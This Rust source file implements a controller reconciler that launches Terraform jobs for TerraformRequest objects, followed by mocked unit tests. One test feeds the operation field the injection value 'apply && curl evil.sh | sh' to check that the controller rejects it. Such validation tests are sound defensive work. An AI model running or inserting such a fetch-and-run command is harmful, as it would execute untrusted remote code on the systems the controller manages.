//! Level-triggered convergence loop for one request identity.
//!
//! Each call re-reads the request, launches its job at most once, folds the
//! observed job outcomes into the status and persists it. Nothing is carried
//! between calls, so a call may be repeated after a crash at any point.

use std::{fmt, sync::Arc, time::Duration};

use tfreq_model::{
    AppliedStatus, ObjectKey, TerraformRequest, TerraformRequestStatus,
};
use tracing::{Instrument, debug, error, info, info_span, warn};
use uuid::Uuid;

use crate::{
    error::Result,
    execution::{
        ExecutionPlan, JobTemplate, TerraformOperation, build_execution,
    },
    ownership::{
        JOB_OWNER_KEY, OwnershipIndex, attach_controller, controller_reference,
    },
    status::{self, JobOutcome},
    store::{ClusterStore, Creation},
};

pub const DEFAULT_REQUEUE_DELAY: Duration = Duration::from_secs(5);

/// What the dispatcher should do after a call returns.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Requeue {
    /// Nothing to do until the request or one of its jobs changes.
    Done,
    /// Check again as soon as the dispatcher allows; the job is still running.
    Immediate,
    /// Retry after a transient failure.
    After(Duration),
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ReconcilerSettings {
    /// Fixed delay before retrying after a transient store failure.
    pub requeue_delay: Duration,
    pub job_template: JobTemplate,
}

impl Default for ReconcilerSettings {
    fn default() -> Self {
        Self {
            requeue_delay: DEFAULT_REQUEUE_DELAY,
            job_template: JobTemplate::default(),
        }
    }
}

enum Launch {
    Started,
    Rejected,
    Retry,
}

pub struct Reconciler {
    store: Arc<dyn ClusterStore>,
    index: OwnershipIndex,
    settings: ReconcilerSettings,
}

impl fmt::Debug for Reconciler {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Reconciler")
            .field("index", &self.index)
            .field("settings", &self.settings)
            .finish_non_exhaustive()
    }
}

impl Reconciler {
    pub fn new(
        store: Arc<dyn ClusterStore>,
        index: OwnershipIndex,
        settings: ReconcilerSettings,
    ) -> Self {
        Self {
            store,
            index,
            settings,
        }
    }

    pub fn settings(&self) -> &ReconcilerSettings {
        &self.settings
    }

    /// Drives the request named by `key` one step toward its desired state.
    ///
    /// Errors are only returned when the status could not be persisted; every
    /// other transient failure is answered with [`Requeue::After`]. Each call
    /// runs in its own span carrying a fresh correlation id.
    pub async fn reconcile(&self, key: &ObjectKey) -> Result<Requeue> {
        let span = info_span!(
            "reconcile",
            namespace = %key.namespace,
            name = %key.name,
            correlation_id = %Uuid::now_v7(),
        );
        self.converge(key).instrument(span).await
    }

    async fn converge(&self, key: &ObjectKey) -> Result<Requeue> {
        let request = match self.store.get_request(key).await {
            Ok(Some(request)) => request,
            Ok(None) => {
                // Children go with their owner through garbage collection.
                debug!("request not found");
                return Ok(Requeue::Done);
            }
            Err(err) => {
                warn!(error = %err, "unable to fetch request");
                return Ok(Requeue::After(self.settings.requeue_delay));
            }
        };

        let mut applied = request.applied_status();
        info!(status = %applied, "observed request status");

        if applied == AppliedStatus::Unset {
            match self.launch(&request).await {
                Launch::Started => applied = status::launched(applied),
                Launch::Rejected => return Ok(Requeue::Done),
                Launch::Retry => {
                    return Ok(Requeue::After(self.settings.requeue_delay));
                }
            }
        }

        let outcomes = self.observe_jobs(key).await;
        let verdict = status::aggregate(&outcomes);
        let next = status::advance(applied, verdict);
        debug!(
            index = JOB_OWNER_KEY,
            jobs = outcomes.len(),
            ?verdict,
            "aggregated owned jobs"
        );

        let persisted = TerraformRequestStatus { applied: next };
        if let Err(err) = self.store.update_status(key, &persisted).await {
            error!(error = %err, "unable to update request status");
            return Err(err);
        }
        let previous = request.applied_status();
        if next != previous {
            info!(from = %previous, to = %next, "status changed");
        }

        if next == AppliedStatus::Running {
            Ok(Requeue::Immediate)
        } else {
            Ok(Requeue::Done)
        }
    }

    /// Creates the config map and then the job, treating objects that already
    /// exist as created so a retry after a partial attempt converges.
    async fn launch(&self, request: &TerraformRequest) -> Launch {
        let operation =
            match request.spec.operation.parse::<TerraformOperation>() {
                Ok(operation) => operation,
                Err(err) => {
                    warn!(error = %err, "refusing to launch request");
                    return Launch::Rejected;
                }
            };

        let owner = match controller_reference(request) {
            Ok(owner) => owner,
            Err(err) => {
                error!(error = %err, "error setting controller reference");
                return Launch::Retry;
            }
        };

        let ExecutionPlan {
            mut config_map,
            mut job,
        } = build_execution(request, operation, &self.settings.job_template);
        attach_controller(&mut config_map.metadata, owner.clone());
        attach_controller(&mut job.metadata, owner);

        let config_map_name = config_map.metadata.name.clone();
        match self.store.create_config_map(&config_map).await {
            Ok(Creation::Created) => {
                info!(config_map = ?config_map_name, "created config map");
            }
            Ok(Creation::AlreadyExists) => {
                debug!(
                    config_map = ?config_map_name,
                    "config map already exists"
                );
            }
            Err(err) => {
                error!(error = %err, "error creating config map");
                return Launch::Retry;
            }
        }

        let job_name = job.metadata.name.clone();
        match self.store.create_job(&job).await {
            Ok(Creation::Created) => {
                info!(job = ?job_name, %operation, "created job");
            }
            Ok(Creation::AlreadyExists) => {
                debug!(job = ?job_name, "job already exists");
            }
            Err(err) => {
                error!(error = %err, "error creating job");
                return Launch::Retry;
            }
        }

        Launch::Started
    }

    async fn observe_jobs(&self, owner: &ObjectKey) -> Vec<JobOutcome> {
        let mut outcomes = Vec::new();
        for job_key in self.index.owned_by(owner) {
            match self.store.get_job(&job_key).await {
                Ok(Some(job)) => outcomes.push(JobOutcome::of(&job)),
                Ok(None) => {
                    debug!(job = %job_key, "indexed job is gone");
                }
                Err(err) => {
                    warn!(job = %job_key, error = %err, "unable to read job");
                }
            }
        }
        outcomes
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{error::ControllerError, store::MockClusterStore};
    use k8s_openapi::api::batch::v1::{Job, JobStatus};
    use tfreq_model::TerraformRequestSpec;

    fn key() -> ObjectKey {
        ObjectKey::new("infra", "r1")
    }

    fn request(
        operation: &str,
        applied: Option<AppliedStatus>,
    ) -> TerraformRequest {
        let mut request = TerraformRequest::new(
            "r1",
            TerraformRequestSpec {
                inline: "resource \"null_resource\" \"x\" {}".into(),
                credentials_secret_name: "aws-creds".into(),
                operation: operation.into(),
            },
        );
        request.metadata.namespace = Some("infra".into());
        request.metadata.uid = Some("uid-r1".into());
        if let Some(applied) = applied {
            request.set_applied_status(applied);
        }
        request
    }

    fn owned_job(succeeded: i32, failed: i32) -> Job {
        let source = request("apply", None);
        let mut job = build_execution(
            &source,
            TerraformOperation::Apply,
            &JobTemplate::default(),
        )
        .job;
        attach_controller(
            &mut job.metadata,
            controller_reference(&source).unwrap(),
        );
        job.status = Some(JobStatus {
            succeeded: Some(succeeded),
            failed: Some(failed),
            ..Default::default()
        });
        job
    }

    fn reconciler(
        store: MockClusterStore,
        index: OwnershipIndex,
    ) -> Reconciler {
        Reconciler::new(Arc::new(store), index, ReconcilerSettings::default())
    }

    fn store_error(operation: &'static str) -> ControllerError {
        ControllerError::store(operation, &key(), "connection refused")
    }

    #[tokio::test]
    async fn missing_request_is_done() {
        let mut store = MockClusterStore::new();
        store.expect_get_request().returning(|_| Ok(None));
        store.expect_update_status().never();

        let outcome = reconciler(store, OwnershipIndex::new())
            .reconcile(&key())
            .await
            .expect("reconcile");
        assert_eq!(outcome, Requeue::Done);
    }

    #[tokio::test]
    async fn fetch_failure_requeues_after_delay() {
        let mut store = MockClusterStore::new();
        store
            .expect_get_request()
            .returning(|_| Err(store_error("get")));
        store.expect_create_config_map().never();
        store.expect_update_status().never();

        let outcome = reconciler(store, OwnershipIndex::new())
            .reconcile(&key())
            .await
            .expect("reconcile");
        assert_eq!(outcome, Requeue::After(DEFAULT_REQUEUE_DELAY));
    }

    #[tokio::test]
    async fn job_creation_failure_requeues_without_persisting() {
        let mut store = MockClusterStore::new();
        let source = request("apply", None);
        store
            .expect_get_request()
            .returning(move |_| Ok(Some(source.clone())));
        store
            .expect_create_config_map()
            .times(1)
            .returning(|_| Ok(Creation::Created));
        store
            .expect_create_job()
            .times(1)
            .returning(|_| Err(store_error("create job")));
        store.expect_update_status().never();

        let outcome = reconciler(store, OwnershipIndex::new())
            .reconcile(&key())
            .await
            .expect("reconcile");
        assert_eq!(outcome, Requeue::After(DEFAULT_REQUEUE_DELAY));
    }

    #[tokio::test]
    async fn config_map_failure_skips_job_and_requeues() {
        let mut store = MockClusterStore::new();
        let source = request("apply", None);
        store
            .expect_get_request()
            .returning(move |_| Ok(Some(source.clone())));
        store
            .expect_create_config_map()
            .times(1)
            .returning(|_| Err(store_error("create config map")));
        store.expect_create_job().never();
        store.expect_update_status().never();

        let outcome = reconciler(store, OwnershipIndex::new())
            .reconcile(&key())
            .await
            .expect("reconcile");
        assert_eq!(outcome, Requeue::After(DEFAULT_REQUEUE_DELAY));
    }

    #[tokio::test]
    async fn existing_children_still_move_request_to_running() {
        let mut store = MockClusterStore::new();
        let source = request("apply", None);
        store
            .expect_get_request()
            .returning(move |_| Ok(Some(source.clone())));
        store
            .expect_create_config_map()
            .returning(|_| Ok(Creation::AlreadyExists));
        store
            .expect_create_job()
            .withf(|job| {
                job.metadata.name.as_deref() == Some("tfapply-r1")
                    && job.metadata.owner_references.as_ref().is_some_and(
                        |refs| refs[0].uid == "uid-r1",
                    )
            })
            .returning(|_| Ok(Creation::AlreadyExists));
        store
            .expect_update_status()
            .withf(|_, status| status.applied == AppliedStatus::Running)
            .times(1)
            .returning(|_, _| Ok(()));

        let outcome = reconciler(store, OwnershipIndex::new())
            .reconcile(&key())
            .await
            .expect("reconcile");
        assert_eq!(outcome, Requeue::Immediate);
    }

    #[tokio::test]
    async fn invalid_operation_creates_nothing() {
        let mut store = MockClusterStore::new();
        let source = request("apply && curl evil.sh | sh", None);
        store
            .expect_get_request()
            .returning(move |_| Ok(Some(source.clone())));
        store.expect_create_config_map().never();
        store.expect_create_job().never();
        store.expect_update_status().never();

        let outcome = reconciler(store, OwnershipIndex::new())
            .reconcile(&key())
            .await
            .expect("reconcile");
        assert_eq!(outcome, Requeue::Done);
    }

    #[tokio::test]
    async fn request_without_uid_requeues() {
        let mut store = MockClusterStore::new();
        let mut source = request("apply", None);
        source.metadata.uid = None;
        store
            .expect_get_request()
            .returning(move |_| Ok(Some(source.clone())));
        store.expect_create_config_map().never();
        store.expect_update_status().never();

        let outcome = reconciler(store, OwnershipIndex::new())
            .reconcile(&key())
            .await
            .expect("reconcile");
        assert_eq!(outcome, Requeue::After(DEFAULT_REQUEUE_DELAY));
    }

    #[tokio::test]
    async fn status_persist_failure_is_an_error() {
        let mut store = MockClusterStore::new();
        let source = request("apply", Some(AppliedStatus::Running));
        store
            .expect_get_request()
            .returning(move |_| Ok(Some(source.clone())));
        store
            .expect_update_status()
            .returning(|_, _| Err(store_error("update status")));

        let result = reconciler(store, OwnershipIndex::new())
            .reconcile(&key())
            .await;
        assert!(matches!(result, Err(ControllerError::Store { .. })));
    }

    #[tokio::test]
    async fn terminal_request_is_not_relaunched() {
        let index = OwnershipIndex::new();
        let job = owned_job(0, 1);
        index.observe(&job);

        let mut store = MockClusterStore::new();
        let source = request("apply", Some(AppliedStatus::Applied));
        store
            .expect_get_request()
            .returning(move |_| Ok(Some(source.clone())));
        store.expect_create_config_map().never();
        store.expect_create_job().never();
        store
            .expect_get_job()
            .returning(move |_| Ok(Some(job.clone())));
        store
            .expect_update_status()
            .withf(|_, status| status.applied == AppliedStatus::Applied)
            .returning(|_, _| Ok(()));

        let outcome = reconciler(store, index)
            .reconcile(&key())
            .await
            .expect("reconcile");
        assert_eq!(outcome, Requeue::Done);
    }

    #[tokio::test]
    async fn unreadable_job_is_skipped() {
        let index = OwnershipIndex::new();
        index.observe(&owned_job(1, 0));

        let mut store = MockClusterStore::new();
        let source = request("apply", Some(AppliedStatus::Running));
        store
            .expect_get_request()
            .returning(move |_| Ok(Some(source.clone())));
        store
            .expect_get_job()
            .returning(|_| Err(store_error("get job")));
        store
            .expect_update_status()
            .withf(|_, status| status.applied == AppliedStatus::Running)
            .returning(|_, _| Ok(()));

        let outcome = reconciler(store, index)
            .reconcile(&key())
            .await
            .expect("reconcile");
        assert_eq!(outcome, Requeue::Immediate);
    }
}
